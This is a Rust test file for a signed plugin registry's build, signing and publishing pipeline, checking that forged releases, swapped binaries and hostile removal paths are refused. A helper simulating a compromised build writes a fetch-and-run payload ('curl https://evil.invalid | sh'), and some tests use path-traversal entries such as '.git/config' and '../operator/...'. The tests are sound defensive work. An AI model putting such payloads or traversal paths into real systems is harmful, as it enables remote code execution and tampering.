    assert!(body.contains("| acme.time-core | 4.0 stars | 1 visible | 0 / 0 / 0 / 1 / 0 |"), "{body}");
    assert!(body.contains("new review `reviews/acme.time-core/octocat.json`: a maintainer moderates it"), "{body}");
    let (out, body) = check(&store, 1, "trellis-reviewed");
    assert!(out.status.success(), "{}\n{body}", text(&out));
    assert!(body.contains("**Passed.**"), "{body}");

    // A bad review fails the check even with the label, naming the file and why.
    pull_request(&store, 2, |store| write_review(store, "acme.time-core", "hubot", 6, "1.0.0"));
    let (out, body) = check(&store, 2, "trellis-reviewed");
    assert_eq!(out.status.code(), Some(1), "{body}");
    assert!(
        body.contains("### Refused") && body.contains("reviews/acme.time-core/hubot.json: stars is 6; give 1 to 5"),
        "{body}"
    );

    // A review of a release the registry does not have.
    pull_request(&store, 3, |store| write_review(store, "acme.time-core", "hubot", 5, "9.0.0"));
    let (out, body) = check(&store, 3, "trellis-reviewed");
    assert_eq!(out.status.code(), Some(1), "{body}");
    assert!(body.contains("reviews/acme.time-core/hubot.json: acme.time-core has no release 9.0.0"), "{body}");

    // A file named after someone else than its author (a review in another's name).
    pull_request(&store, 4, |store| {
        write_review(store, "acme.time-core", "octocat", 5, "1.0.0");
        let dir = store.operator.join("reviews/acme.time-core");
        std::fs::rename(dir.join("octocat.json"), dir.join("hubot.json")).unwrap();
    });
    let (out, body) = check(&store, 4, "trellis-reviewed");
    assert_eq!(out.status.code(), Some(1), "{body}");
    assert!(body.contains("reviews/acme.time-core/hubot.json: "), "{body}");
}

#[test]
fn the_builder_is_installed_pinned_and_a_poisoned_cache_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let sum = trellis_schema::Sha256::of(&std::fs::read(bin()).unwrap()).to_hex();
    let rev = "0123456789abcdef0123456789abcdef01234567";
    let install = |env: &[(&str, &str)]| {
        let mut cmd = command(template().join("scripts/install-builder.sh"), tmp.path());
        cmd.env("TRELLIS_HOME", tmp.path().join("home"))
            .env("GITHUB_PATH", tmp.path().join("path"))
            .env_remove("TRELLIS_REV")
            .env_remove("TRELLIS_SHA256")
            .env_remove("TRELLIS_URL")
            .envs(env.iter().copied());
        cmd.output().unwrap()
    };
    let url = format!("file://{}", bin().display());

    let out = install(&[]);
    assert!(!out.status.success() && text(&out).contains("TRELLIS_REV"), "{}", text(&out));
    let out = install(&[("TRELLIS_REV", "main")]);
    assert!(!out.status.success() && text(&out).contains("40 lowercase hex"), "{}", text(&out));
    let out = install(&[("TRELLIS_REV", rev), ("TRELLIS_URL", &url)]);
    assert!(!out.status.success() && text(&out).contains("TRELLIS_SHA256 is not"), "{}", text(&out));
    let wrong = "0".repeat(64);
    let out = install(&[("TRELLIS_REV", rev), ("TRELLIS_URL", &url), ("TRELLIS_SHA256", &wrong)]);
    assert!(!out.status.success() && text(&out).contains("refusing it"), "{}", text(&out));
    let installed = tmp.path().join("home").join(rev).join("bin/trellis-index");
    assert!(!installed.exists());

    let out = install(&[("TRELLIS_REV", rev), ("TRELLIS_URL", &url), ("TRELLIS_SHA256", &sum)]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(installed.exists());
    let path = std::fs::read_to_string(tmp.path().join("path")).unwrap();
    assert_eq!(path.trim(), installed.parent().unwrap().to_str().unwrap());
    // The cache hit is checked too; a swapped binary is refused and removed.
    let out = install(&[("TRELLIS_REV", rev), ("TRELLIS_SHA256", &sum)]);
    assert!(out.status.success() && text(&out).contains("from the cache"), "{}", text(&out));
    std::fs::write(&installed, b"#!/bin/sh\necho pwned\n").unwrap();
    let out = install(&[("TRELLIS_REV", rev), ("TRELLIS_SHA256", &sum)]);
    assert!(!out.status.success() && text(&out).contains("refusing it"), "{}", text(&out));
    assert!(!installed.exists());
}

#[test]
fn lint_and_build_refuse_a_package_over_githubs_file_limit() {
    let store = Store::new();
    let dir = store.operator.join("releases/acme.big");
    std::fs::create_dir_all(&dir).unwrap();
    let package = dir.join("1.0.0.zip");
    // Sparse: 101 MiB on paper, nothing on disk.
    std::fs::File::create(&package).unwrap().set_len(101 * 1024 * 1024).unwrap();
    std::fs::write(dir.join("1.0.0.zip.dsse"), b"{}").unwrap();

    let out = Command::new(bin()).args(["lint", package.to_str().unwrap()]).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        text(&out).contains("over the 104857600-byte limit") && text(&out).contains("<version>.remote.json"),
        "{}",
        text(&out)
    );

    let site = store.tmp.path().join("site");
    let out = Command::new(bin())
        .args(["build", store.operator.to_str().unwrap(), "--out", site.to_str().unwrap(), "--now", T0])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(
        text(&out).contains("releases/acme.big/1.0.0.zip") && text(&out).contains(".remote.json"),
        "{}",
        text(&out)
    );
    assert!(!site.join("metadata/timestamp.json").exists(), "nothing written");
}

#[test]
fn the_scripts_are_shellcheck_clean() {
    let found = Command::new("shellcheck").arg("--version").output().is_ok_and(|o| o.status.success());
    if !found {
        eprintln!("shellcheck is not installed: the scripts were not checked");
        return;
    }
    let scripts = template().join("scripts");
    let mut names: Vec<_> = std::fs::read_dir(&scripts)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|n| n.ends_with(".sh"))
        .collect();
    names.sort();
    assert!(names.len() >= 8, "{names:?}");
    let out = Command::new("shellcheck").arg("-x").args(&names).current_dir(&scripts).output().unwrap();
    assert!(out.status.success(), "{}", text(&out));
}

#[test]
fn status_reads_a_registry_a_site_or_a_url_and_names_what_is_missing() {
    let store = Store::new();
    store.bootstrap();
    let site = store.site("status");
    let json = index(&store.operator, &["status", ".", "--site", site.to_str().unwrap(), "--json", "--now", T0]);
    let status: serde_json::Value = serde_json::from_str(&json).unwrap();
    let roles: Vec<&str> = status["roles"].as_array().unwrap().iter().map(|r| r["role"].as_str().unwrap()).collect();
    assert_eq!(
        roles,
        ["root", "targets", "bins", "catalog", "publishers", "security", "snapshot", "timestamp", "bin-*", "pub-*"]
    );
    assert_eq!(status["roles"][1]["signer"], "offline");
    assert_eq!(status["roles"][1]["days_left"], 180);
    assert_eq!(status["roles"][8]["count"], 4, "2^bin_bits hash bins in one row");

    // Served over HTTP, as the watchdog reads it.
    let server = trellis_index::serve::Server::start(&site, "127.0.0.1:0".parse().unwrap()).unwrap();
    let text_status = index(store.tmp.path(), &["status", &server.url(), "--now", T0]);
    assert!(text_status.contains("targets: by 2027-05-30T00:00:00Z"), "{text_status}");

    // A broken site: the missing file is named, exit 2.
    std::fs::remove_file(site.join("metadata/1.snapshot.json")).unwrap();
    let out = Command::new(bin()).args(["status", site.to_str().unwrap(), "--now", T0]).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(text(&out).contains("metadata/1.snapshot.json: missing"), "{}", text(&out));
}

#[test]
fn the_signing_job_refuses_hostile_inputs() {
    let store = Store::new();
    store.bootstrap();
    let first = store.head();
    store.add_release("acme.clock-1.0.0", "acme");
    let second = store.commit("acme.clock 1.0.0");
    store.push();
    let commits = store.site_commits();
    let build = store.runner("build-hostile", &second, None);
    let out = build.script("prepare.sh", &[build.temp.to_str().unwrap()], &[("GITHUB_EVENT_BEFORE", &first)]);
    assert!(out.status.success(), "{}", text(&out));
    let listing = run({
        let mut cmd = command("tar", &build.temp);
        cmd.args(["-tf", "unsigned.tar"]);
        cmd
    });
    assert!(listing.contains("metadata/") && listing.contains(".dsse"), "{listing}");
    assert!(!listing.contains(".zip"), "the sign job never receives a package: {listing}");
    let unpacked = build.temp.join("unpacked");
    std::fs::create_dir_all(&unpacked).unwrap();
    run({
        let mut cmd = command("tar", &unpacked);
        cmd.args(["-xf", build.temp.join("unsigned.tar").to_str().unwrap()]);
        cmd
    });
    let attempt = |name: &str, edit: &dyn Fn(&Path)| {
        let dir = build.temp.join(name);
        run({
            let mut cp = command("cp", &build.temp);
            cp.arg("-r").arg(&unpacked).arg(&dir);
            cp
        });
        edit(&dir);
        let hostile = build.temp.join(format!("{name}.tar"));
        let mut cmd = command("tar", &dir);
        cmd.args(["-cf", hostile.to_str().unwrap(), "metadata", "targets"]);
        run(cmd);
        let sign = store.sign_job(&second);
        (store.sign_with(&sign, &hostile), sign)
    };
    // A package signed by a key acme's record does not list, slipped into the index doc.
    let stranger = trellis_index::fixture::key(9);
    let (out, sign) = attempt("foreign", &|dir| forge_release(dir, "acme.clock", &[&stranger]));
    assert!(!out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("acme.clock 1.0.0 is not signed by its developer"), "{}", text(&out));
    assert!(!sign.temp.join("signed.tar").exists() && !sign.work.join("keys").exists());
    // The same without any signature.
    let (out, _) = attempt("unsigned", &|dir| forge_release(dir, "acme.clock", &[]));
    assert!(text(&out).contains("acme.clock 1.0.0 is not signed by its developer"), "{}", text(&out));
    // A path outside metadata/ and targets/ is refused before anything is extracted.
    let (out, _) = attempt("path", &|dir| {
        std::fs::write(dir.join("metadata/..evil"), "x").unwrap();
    });
    assert!(!out.status.success(), "{}", text(&out));
    assert_eq!(store.site_commits(), commits, "nothing pushed");
    // The untouched payloads are signed and published.
    let (out, sign) = attempt("clean", &|_| {});
    assert!(out.status.success(), "{}", text(&out));
    let publish = store.runner("publish-clean", &second, Some(&["scripts/", "root/"]));
    let signed = sign.temp.join("signed.tar");
    let blobs = build.temp.join("blobs.tar");
    let pages = build.temp.join("pages.tar");
    let out = publish.script(
        "publish.sh",
        &[signed.to_str().unwrap(), blobs.to_str().unwrap(), pages.to_str().unwrap()],
        &[],
    );
    assert!(out.status.success(), "{}", text(&out));
    assert!(store.published().contains("acme.clock 1.0.0"));
}

/// Files of the published site branch.
fn site_files(store: &Store) -> BTreeSet<String> {
    git(&store.origin, &["ls-tree", "-r", "--name-only", "gh-pages"]).lines().map(str::to_owned).collect()
}

#[test]
fn a_page_the_build_removed_is_deleted_from_the_site_and_signed_files_never_are() {
    let store = Store::new();
    store.bootstrap();
    let first = store.head();
    store.add_release("acme.clock-1.0.0", "acme");
    let second = store.commit("acme.clock 1.0.0");
    store.push();
    store.publish_ok("push", &first, &second);
    let before = site_files(&store);
    let old_page = "plugins/acme.clock/index.html";
    assert!(before.contains(old_page), "{before:?}");

    // acme.clock is renamed acme.clockwork: the new id is published, every release of
    // the old one yanked (published releases are never deleted), so the old id leaves
    // the catalog and the build deletes its page.
    let renamed = store.variant("acme.clock-1.0.0", "1.0.0", |meta| meta["id"] = "acme.clockwork".into());
    store.add_tree(&renamed, "acme");
    index(&store.operator, &["yank", store.operator.to_str().unwrap(), "acme.clock@1.0.0", "--reason", "renamed"]);
    let third = store.commit("acme.clock is now acme.clockwork");
    store.push();

    // The build job lists the deletion beside pages.tar.
    let build = store.runner("build-rename", &third, None);
    let out = build.script("prepare.sh", &[build.temp.to_str().unwrap()], &[("GITHUB_EVENT_BEFORE", &second)]);
    assert!(out.status.success(), "{}", text(&out));
    let removed = std::fs::read_to_string(build.temp.join("removed.txt")).unwrap();
    assert!(removed.lines().any(|l| l == old_page), "{removed}");
    assert!(removed.lines().all(|l| !l.starts_with("metadata/") && !l.starts_with("targets/")), "{removed}");
    let sign = store.sign_job(&third);
    let out = store.sign_with(&sign, &build.temp.join("unsigned.tar"));
    assert!(out.status.success(), "{}", text(&out));
    let publish_with = |name: &str, list: &Path| {
        let publish = store.runner(name, &third, Some(&["scripts/", "root/"]));
        let args =
            [sign.temp.join("signed.tar"), build.temp.join("blobs.tar"), build.temp.join("pages.tar"), list.into()];
        let args: Vec<&str> = args.iter().map(|p| p.to_str().unwrap()).collect();
        publish.script("publish.sh", &args, &[])
    };

    // A removal list that reaches for signed files, the git directory, out of the site
    // or at a page the same build writes: refused, nothing pushed.
    let commits = store.site_commits();
    for (hostile, why) in [
        ("metadata/timestamp.json", "never deleted"),
        ("targets/index/x.json", "never deleted"),
        (".git/config", "not a storefront path"),
        ("../operator/trellis-registry.json", "not a storefront path"),
        (".nojekyll", "not a storefront path"),
        ("plugins/acme.clockwork/index.html", "both written (pages) and deleted"),
    ] {
        let list = build.temp.join("hostile.txt");
        std::fs::write(&list, format!("{old_page}\n{hostile}\n")).unwrap();
        let out = publish_with("publish-hostile", &list);
        assert!(!out.status.success(), "{hostile}: {}", text(&out));
        assert!(
            text(&out).contains(&format!("hostile.txt:2: '{hostile}'")) && text(&out).contains(why),
            "{}",
            text(&out)
        );
        assert_eq!(store.site_commits(), commits, "{hostile}: nothing pushed");
    }

    // The same checks when the offending name comes first in a pages archive far
    // larger than a pipe's buffer: a check reading `tar -tf | grep -q` under pipefail
    // saw tar killed by SIGPIPE once grep matched, and let the archive through.
    let big = build.temp.join("big-pages");
    let filler: Vec<String> = (0..5000).map(|i| format!("filler/page-{i:05}-{}.html", "x".repeat(24))).collect();
    for name in &filler {
        let path = big.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, b"").unwrap();
    }
    let publish_pages = |name: &str, first: &str, list: &Path| {
        let path = big.join(first);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, b"<p>hostile</p>").unwrap();
        let pages = build.temp.join(format!("{name}.tar"));
        let mut tar = command("tar", &big);
        tar.arg("-cf").arg(&pages).arg(first).args(&filler);
        run(tar);
        std::fs::remove_file(&path).unwrap();
        let publish = store.runner(name, &third, Some(&["scripts/", "root/"]));
        let args = [sign.temp.join("signed.tar"), build.temp.join("blobs.tar"), pages, list.into()];
        let args: Vec<&str> = args.iter().map(|p| p.to_str().unwrap()).collect();
        publish.script("publish.sh", &args, &[])
    };
    let empty = build.temp.join("no-removals.txt");
    std::fs::write(&empty, "").unwrap();
    let both = build.temp.join("both.txt");
    std::fs::write(&both, "plugins/acme.clockwork/index.html\n").unwrap();
    for (name, first, list, why) in [
        ("publish-big-metadata", "metadata/timestamp.json", &empty, "may not be under metadata/"),
        ("publish-big-both", "plugins/acme.clockwork/index.html", &both, "both written (pages) and deleted"),
    ] {
        let out = publish_pages(name, first, list);
        assert!(!out.status.success(), "{name}: {}", text(&out));
        assert!(text(&out).contains(why), "{name}: {}", text(&out));
        assert_eq!(store.site_commits(), commits, "{name}: nothing pushed");
    }

    let out = publish_with("publish-rename", &build.temp.join("removed.txt"));
    assert!(out.status.success(), "{}", text(&out));
    let after = site_files(&store);
    assert!(!after.contains(old_page), "the old page is still served: {after:?}");
    assert!(after.contains("plugins/acme.clockwork/index.html"), "{after:?}");
    let signed = |files: &BTreeSet<String>| -> BTreeSet<String> {
        files.iter().filter(|f| f.starts_with("metadata/") || f.starts_with("targets/")).cloned().collect()
    };
    assert!(signed(&before).is_subset(&signed(&after)), "a signed file was deleted");
    // The old release stays downloadable (yanked), and the site verifies.
    assert!(store.published().contains("acme.clock 1.0.0"), "{:?}", store.published());
    let site = store.site("renamed");
    let verified = index(site.parent().unwrap(), &["verify", site.to_str().unwrap(), "--now", T0]);
    assert!(verified.contains("no problems"), "{verified}");
}

/// What a compromised build job does: repacks `id`'s newest release with other content,
/// signed by `keys`, and points the prepared index doc (and its bin payload) at it.
fn forge_release(prepared: &Path, id: &str, keys: &[&trellis_schema::SigningKey]) {
    use trellis_index::fixture::{ReleaseSpec, sign_manifest};
    use trellis_schema::index::{BlobRef, IndexDoc};
    use trellis_schema::{PluginId, Sha256, canonical};
    let id: PluginId = id.parse().unwrap();
    let target = trellis_index::site::index_target(&id);
    let payload_path = std::fs::read_dir(prepared.join("metadata"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| {
            let doc: serde_json::Value = serde_json::from_slice(&std::fs::read(p).unwrap()).unwrap();
            doc["signed"]["targets"].get(&target).is_some()
        })
        .unwrap();
    let mut payload: serde_json::Value = serde_json::from_slice(&std::fs::read(&payload_path).unwrap()).unwrap();
    let entry = &mut payload["signed"]["targets"][&target];
    let sha: Sha256 = entry["hashes"]["sha256"].as_str().unwrap().parse().unwrap();
    let doc_path = trellis_index::site::target_file(prepared, &target, &sha);
    let mut doc: IndexDoc = serde_json::from_slice(&std::fs::read(&doc_path).unwrap()).unwrap();
    std::fs::remove_file(&doc_path).unwrap();
    let release = doc.releases.last_mut().unwrap();
    let mut spec = ReleaseSpec::new(id.as_str(), &release.version.to_string());
    spec.payload = b"#!/bin/sh\ncurl https://evil.invalid | sh\n".to_vec();
    let scratch = tempfile::tempdir().unwrap();
    let (package, manifest) = spec.pack(&scratch.path().join("p.zip")).unwrap();
    let envelope = sign_manifest(&manifest, keys);
    for (bytes, path, blob) in [
        (&package, trellis_index::site::package_target(&id, &release.version), &mut release.package),
        (&envelope, trellis_index::site::envelope_target(&id, &release.version), &mut release.envelope),
    ] {
        let sha = Sha256::of(bytes);
        let file = trellis_index::site::target_file(prepared, &path, &sha);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, bytes).unwrap();
        *blob = BlobRef { path, sha256: sha, length: bytes.len() as u64 };
    }
    let dsse: trellis_schema::dsse::Envelope = serde_json::from_slice(&envelope).unwrap();
    release.manifest_sha256 = Sha256::of(&dsse.payload_bytes().unwrap());
    let bytes = canonical::to_vec_of(&doc).unwrap();
    let sha = Sha256::of(&bytes);
    std::fs::write(trellis_index::site::target_file(prepared, &target, &sha), &bytes).unwrap();
    entry["length"] = serde_json::json!(bytes.len());
    entry["hashes"]["sha256"] = serde_json::json!(sha.to_hex());
    std::fs::write(&payload_path, canonical::to_vec_of(&payload).unwrap()).unwrap();
}

#[test]
fn the_push_refuses_a_site_file_over_githubs_100_mib_limit() {
    // publish_site (lib.sh) is the last step before `git push`: a file GitHub would
    // reject must stop it with the hosting hint, before anything is committed.
    let tmp = tempfile::tempdir().unwrap();
    let site = tmp.path().join("site");
    std::fs::create_dir_all(site.join("targets/plugins/acme/acme.big")).unwrap();
    git(&site, &["init", "--quiet"]);
    let big = site.join("targets/plugins/acme/acme.big/x.acme.big-1.0.0.zip");
    let file = std::fs::File::create(&big).unwrap();
    file.set_len(100 * 1024 * 1024 + 1).unwrap(); // sparse: no 100 MiB written
    let publish = |dir: &Path| {
        let lib = template().join("scripts/lib.sh");
        let mut cmd = command("bash", tmp.path());
        cmd.arg("-c")
            .arg(format!(". '{}'; publish_site \"$1\" message {}", lib.display(), "a".repeat(40)))
            .arg("bash")
            .arg(dir);
        cmd.output().unwrap()
    };
    let out = publish(&site);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        text(&out).contains("x.acme.big-1.0.0.zip is over GitHub's 100 MiB file limit")
            && text(&out).contains("HOSTING.md"),
        "{}",
        text(&out)
    );
    assert!(git(&site, &["status", "--porcelain"]).contains("??"), "nothing was added or committed");
    // Exactly 100 MiB passes the guard (the push itself then fails here: no origin).
    std::fs::File::options().write(true).open(&big).unwrap().set_len(100 * 1024 * 1024).unwrap();
    let out = publish(&site);
    assert!(!text(&out).contains("100 MiB file limit"), "{}", text(&out));
}
